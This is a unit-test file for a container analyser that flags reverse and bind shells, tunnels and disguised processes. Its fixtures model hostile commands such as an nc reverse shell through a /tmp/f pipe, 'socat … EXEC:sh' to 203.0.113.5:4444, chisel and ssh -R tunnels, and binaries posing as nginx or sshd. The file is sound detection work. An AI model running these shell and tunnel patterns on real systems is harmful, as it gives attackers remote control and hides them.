# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Shells that others speak for, tunnels, and programs under a false name."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    connection,
    findings_of,
    grades,
    listener,
    process,
)

IDLE = process(100, 1, "/usr/bin/sleep", "sleep", "infinity")
OUT = connection(55, "203.0.113.5", 4444, pid=102)


def found(tmp_path: Path, rows: list[Any], *sockets: dict[str, Any]) -> dict[str, str]:
    return grades(findings_of(tmp_path, {"processes.jsonl": [IDLE, *rows], "sockets.jsonl": list(sockets)}))


def shell(*words: str, **more: Any) -> dict[str, Any]:
    return process(101, more.pop("ppid", 1), "/usr/bin/dash", *(words or ("sh", "-i")), **more)


def test_a_shell_between_pipes_takes_its_commands_from_nc(tmp_path: Path) -> None:
    rows = [
        shell(stdio={"0": "pipe:[1]", "1": "pipe:[2]"}),
        process(
            102, 1, "/usr/bin/nc.openbsd", "nc", "203.0.113.5", "4444", stdio={"0": "pipe:[2]", "1": "/tmp/f"}
        ),
        process(103, 1, "/usr/bin/cat", "cat", "/tmp/f", stdio={"1": "pipe:[1]"}),
    ]
    findings = findings_of(tmp_path, {"processes.jsonl": [IDLE, *rows], "sockets.jsonl": [OUT]})
    first = next(finding for finding in findings if finding.rule == "relayed-shell")
    assert (first.severity, first.technique) == ("critical", "T1059.004")
    assert first.sentence == (
        "dash (PID 101) takes its commands from nc.openbsd (PID 102) through pipes, and that is connected to "
        "203.0.113.5:4444."
    )
    assert {(ref.path.rpartition("/")[2], ref.line) for ref in first.evidence} == {
        ("processes.jsonl", 2),
        ("processes.jsonl", 3),
        ("sockets.jsonl", 1),
    }


def test_cat_between_the_shell_and_its_carrier_hides_nothing(tmp_path: Path) -> None:
    rows = [
        shell(stdio={"0": "pipe:[1]", "1": "/dev/null"}),
        process(103, 1, "/usr/bin/cat", "cat", stdio={"0": "pipe:[2]", "1": "pipe:[1]"}),
        process(102, 1, "/usr/bin/openssl", "openssl", "s_client", stdio={"1": "pipe:[2]"}),
    ]
    assert found(tmp_path, rows, OUT) == {"relayed-shell": "critical"}


@pytest.mark.parametrize("stream", ["pipe:[9]", "/dev/pts/0", "socket:[77]"])
@pytest.mark.parametrize(
    ("parent", "severity"),
    [
        (process(102, 1, "/usr/bin/socat", "socat", "TCP:203.0.113.5:4444", "EXEC:sh"), "critical"),
        (process(102, 1, "/usr/bin/java", "java", "/tmp/Update.java"), "critical"),
        (process(102, 1, "/usr/bin/node", "node", "-e", "…"), "critical"),
        (process(102, 1, "/opt/agent", "agent"), "critical"),
    ],
)
def test_a_parent_with_a_connection_speaks_for_its_shell(
    tmp_path: Path, parent: dict[str, Any], severity: str, stream: str
) -> None:
    assert found(tmp_path, [parent, shell(ppid=102, stdio={"0": stream})], OUT)["relayed-shell"] == severity


def test_nothing_says_that_somebody_types_into_a_plain_shell_of_a_service(tmp_path: Path) -> None:
    rows = [process(102, 1, "/usr/bin/java", "java"), shell("sh", ppid=102, stdio={"0": "pipe:[9]"})]
    assert found(tmp_path, rows, OUT)["relayed-shell"] == "high"


def test_a_shell_behind_a_waiting_tool_is_a_bind_shell(tmp_path: Path) -> None:
    rows = [
        shell(stdio={"1": "pipe:[2]"}),
        process(102, 1, "/usr/bin/nc.openbsd", "nc", "-l", stdio={"0": "pipe:[2]"}),
    ]
    assert found(tmp_path, rows, listener(102, 31337)) == {"bind-shell": "critical"}


ORDINARY = {
    "a script in a pipe": [
        shell("sh", "/usr/local/bin/backup.sh", stdio={"1": "pipe:[2]"}),
        process(102, 1, "/usr/bin/nc.openbsd", "nc", stdio={"0": "pipe:[2]"}),
    ],
    "commands from the command line": [
        process(102, 1, "/usr/bin/java", "java"),
        shell("sh", "-c", "gzip x; sleep 9", ppid=102, stdio={"0": "pipe:[1]"}),
    ],
    "a program that is fetched and run": [
        shell("sh", stdio={"0": "pipe:[1]"}),
        process(102, 1, "/usr/bin/curl", "curl", "https://get.example", stdio={"1": "pipe:[1]"}),
    ],
    "a shell of an administrator": [shell("bash", stdio={"0": "/dev/pts/0"}), process(102, 1, "/opt/app")],
    "a login by SSH": [
        process(102, 1, "/usr/sbin/sshd", "sshd"),
        shell("-sh", ppid=102, stdio={"0": "/dev/pts/0"}),
    ],
}


@pytest.mark.parametrize("name", ORDINARY)
def test_other_shells_with_pipes_are_not_relayed(tmp_path: Path, name: str) -> None:
    assert {"relayed-shell", "bind-shell"}.isdisjoint(found(tmp_path, ORDINARY[name], OUT))


TUNNELS = [
    ["ssh", "-N", "-R", "8443:127.0.0.1:80", "x@y"],
    ["ssh", "-fNR", "8443:127.0.0.1:80", "x@y"],
    ["ssh", "-p", "22", "-D1080", "x@y"],
    ["socat", "TCP-LISTEN:9000,fork", "TCP:203.0.113.5:443"],
    ["chisel", "client", "203.0.113.5:443", "R:socks"],
    ["python3", "/tmp/chisel.py", "client"],
    ["frpc", "-c", "/x"],
]


@pytest.mark.parametrize("words", TUNNELS, ids=" ".join)
def test_tunnels(tmp_path: Path, words: list[str]) -> None:
    assert found(tmp_path, [process(102, 1, f"/usr/bin/{words[0]}", *words)])["tunnel"] == "high"


@pytest.mark.parametrize(
    "words",
    [
        ["ssh", "-N", "-L", "3306:db:3306", "x@y"],
        ["ssh", "x@y", "rm", "-R"],
        ["ssh", "-o", "-R", "x@y"],
        ["socat", "TCP-LISTEN:9000", "UNIX-CONNECT:/run/x"],
        ["socat", "-", "TCP:203.0.113.5:443"],
        ["ew"],
    ],
    ids=" ".join,
)
def test_no_tunnels(tmp_path: Path, words: list[str]) -> None:
    assert "tunnel" not in found(tmp_path, [process(102, 1, f"/usr/bin/{words[0]}", *words)])


def test_a_container_that_was_made_to_forward_does_its_duty(tmp_path: Path) -> None:
    words = ["socat", "TCP-LISTEN:9000,fork", "TCP:203.0.113.5:443"]
    rows = [process(100, 1, "/usr/bin/socat", *words), process(102, 100, "/usr/bin/socat", *words)]
    items = {"processes.jsonl": rows, "sockets.jsonl": [OUT, listener(100, 9000)]}
    assert set(grades(findings_of(tmp_path, items)).values()) == {"low"}


@pytest.mark.parametrize(
    ("exe", "first", "more"),
    [
        ("/usr/bin/perl", "nginx: worker process", {}),
        ("/usr/bin/perl", "/usr/sbin/apache2", {}),
        ("/usr/bin/sleep", "/usr/sbin/sshd", {}),
        ("/tmp/x", "php-fpm: pool www", {}),
        ("/usr/bin/python3.11", "python3", {"comm": "kworker/0:1"}),
    ],
)
def test_false_names(tmp_path: Path, exe: str, first: str, more: dict[str, str]) -> None:
    assert found(tmp_path, [process(102, 1, exe, first, **more)])["disguised-process"] == "high"


@pytest.mark.parametrize(
    ("exe", "first"),
    [
        ("/usr/sbin/nginx", "nginx: master process nginx"),
        ("/usr/sbin/nginx-debug", "nginx: worker process"),
        ("/usr/local/openresty/nginx/sbin/nginx", "nginx: worker process"),
        ("/usr/sbin/php-fpm8.2", "php-fpm: pool www"),
        ("/usr/sbin/mariadbd", "mysqld"),
        ("/usr/bin/redis-check-rdb", "redis-server *:6379"),
        ("/usr/sbin/cron", "CRON -f"),
        ("/bin/busybox", "crond"),
        ("/nix/store/x/bin/.nginx-wrapped", "nginx"),
        ("/usr/bin/qemu-x86_64-static", "/usr/sbin/nginx"),
        ("/usr/bin/python3.11", "gunicorn: master [app]"),
        ("/usr/sbin/nginx (deleted)", "nginx: worker process"),
        ("", "nginx: worker process"),
    ],
)
def test_true_names(tmp_path: Path, exe: str, first: str) -> None:
    row = process(102, 1, exe or "/x", first)
    row["exe"] = {"path": exe, "state": "image"} if exe else None
    row["comm"] = first[:15]
    assert "disguised-process" not in found(tmp_path, [row])
